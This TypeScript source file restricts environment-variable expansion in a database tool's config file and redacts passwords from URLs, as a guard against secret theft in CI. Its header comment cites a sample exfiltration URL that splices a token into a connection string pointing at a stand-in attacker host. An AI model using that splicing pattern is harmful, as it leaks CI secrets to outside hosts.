/**
 * `${VAR}` in alab.yaml. A pull request can change alab.yaml, and the CI job that runs `alab check`
 * on it holds secrets in its environment, so expansion is narrow by design:
 *
 *   - Only `database.url` expands, and only as its whole value: `${NAME}` or `${NAME:-fallback}`.
 *     A variable then decides the whole URL, host included, so no file can put a secret into a
 *     URL that points where the file wants (`postgres://x:${TOKEN}@evil.example/db`). Folders,
 *     limits and the dialect are the project's own facts; ALAB_SCHEMAS_DIR / ALAB_MIGRATIONS_DIR
 *     and DATABASE_URL / -d override them from outside.
 *   - A variable's value is never printed: messages show the text as written (`${NAME}`), and
 *     nothing read out of the URL (host, database, user, file) is shown either.
 *   - `$${` is a literal `${` in every string.
 *
 * Passwords written in a URL are hidden wherever one is printed (`redactUrl`).
 */
import { AlabError, type SourceLocation } from "./errors";

export type Env = Readonly<Record<string, string | undefined>>;

/** `database.url` as written in alab.yaml. */
export type FileUrl =
  | { readonly kind: "literal"; readonly text: string }
  | { readonly kind: "variable"; readonly written: string; readonly name: string; readonly fallback?: string };

/** Where a `${…}` problem is: the key path (for messages) and its location in the file. */
export interface VarSite {
  readonly key: string;
  readonly file: string;
  readonly at: SourceLocation;
}

function fail(message: string, hint: string, site: VarSite): never {
  throw new AlabError({ code: "E_CONFIG_ENV_VAR", message, hint, at: site.at });
}

/** Offsets of each unescaped `${` in `s` (a `$${` is a literal `${`, not a reference). */
function references(s: string): number[] {
  const out: number[] = [];
  for (let i = 0; i < s.length; i++) {
    if (s.startsWith("$${", i)) i += 2;
    else if (s.startsWith("${", i)) out.push(i);
  }
  return out;
}

/** `$${` → `${`. */
export function unescapeDollar(s: string): string {
  return s.replaceAll("$${", "${");
}

/** A string of any key but database.url: a `${…}` there is an error (its text as written is shown). */
export function literalValue(s: string, site: VarSite): string {
  if (references(s).length > 0) {
    fail(
      `\`${site.key}\` in ${site.file} uses \`\${…}\`, but environment variables are expanded only in database.url`,
      site.key === "schemas" || site.key === "migrations"
        ? `write the folder itself; ALAB_${site.key.toUpperCase()}_DIR overrides it from the environment (docs/config.md)`
        : "write the value itself (docs/config.md)",
      site,
    );
  }
  return unescapeDollar(s);
}

const WHOLE = /^\$\{([A-Za-z_][A-Za-z0-9_]*)(?::-([^}]*))?\}$/;

/** Reads database.url as written: literal text, or one `${NAME}` / `${NAME:-fallback}` that is the whole value. */
export function fileUrl(s: string, site: VarSite): FileUrl {
  const refs = references(s);
  if (refs.length === 0) return { kind: "literal", text: unescapeDollar(s) };
  const m = WHOLE.exec(s);
  if (m !== null) {
    const [, name = "", fallback] = m;
    return { kind: "variable", written: s, name, ...(fallback === undefined ? {} : { fallback: unescapeDollar(fallback) }) };
  }
  const at = refs[0] as number;
  const end = s.indexOf("}", at);
  if (end < 0) fail(`unclosed \`\${\` in \`${site.key}\` in ${site.file}`, "write ${NAME}, or $${ for a literal ${", site);
  const body = s.slice(at + 2, end);
  if (!/^[A-Za-z_][A-Za-z0-9_]*(:-.*)?$/s.test(body)) fail(`\`\${${body}}\` in \`${site.key}\` in ${site.file} is not a variable reference`, "write ${NAME} or ${NAME:-default}", site);
  return fail(
    `\`${site.key}\` in ${site.file} mixes text and \`\${…}\`: a variable may only be the whole URL`,
    "put the whole URL in one variable (`url: ${DATABASE_URL}`), or pass it with DATABASE_URL or -d, which take precedence over alab.yaml; a file that splices a variable into a URL could send it to any host (docs/config.md)",
    site,
  );
}

/** The URL a FileUrl stands for, and whether it is a variable's value (never to be printed). */
export function expandUrl(url: FileUrl, env: Env, site: VarSite): { value: string; fromVariable: boolean } {
  if (url.kind === "literal") return { value: url.text, fromVariable: false };
  const value = env[url.name];
  if (value !== undefined) return { value, fromVariable: true };
  if (url.fallback !== undefined) return { value: url.fallback, fromVariable: false };
  return fail(`environment variable ${url.name} is not set (used by \`${site.key}\` in ${site.file})`, `set ${url.name}, or give a default with \${${url.name}:-value}`, site);
}

export const PASSWORD_PARAM = /([?&](?:password|pass|passwd|pwd|sslpassword)=)[^&#]*/gi;

/**
 * `postgres://u:secret@h/db` -> `postgres://u:***@h/db`, also when the URL is malformed (the
 * password runs to the last `@`) and for a `?password=` parameter.
 */
export function redactUrl(url: string): string {
  const prefix = /^[a-z][a-z0-9+.-]*:\/*/i.exec(url)?.[0] ?? "";
  const rest = url.slice(prefix.length);
  const at = rest.lastIndexOf("@");
  const colon = rest.indexOf(":");
  const hidden = at > 0 && colon >= 0 && colon < at ? `${rest.slice(0, colon + 1)}***${rest.slice(at)}` : rest;
  return (prefix + hidden).replace(PASSWORD_PARAM, "$1***");
}

/** A line of alab.yaml for a code frame, with any URL password in it hidden. */
export function hidePasswords(line: string): string {
  return line.replace(/(\/\/[^\s/@:"']*:)[^\s"']*@/g, "$1***@").replace(PASSWORD_PARAM, "$1***");
}
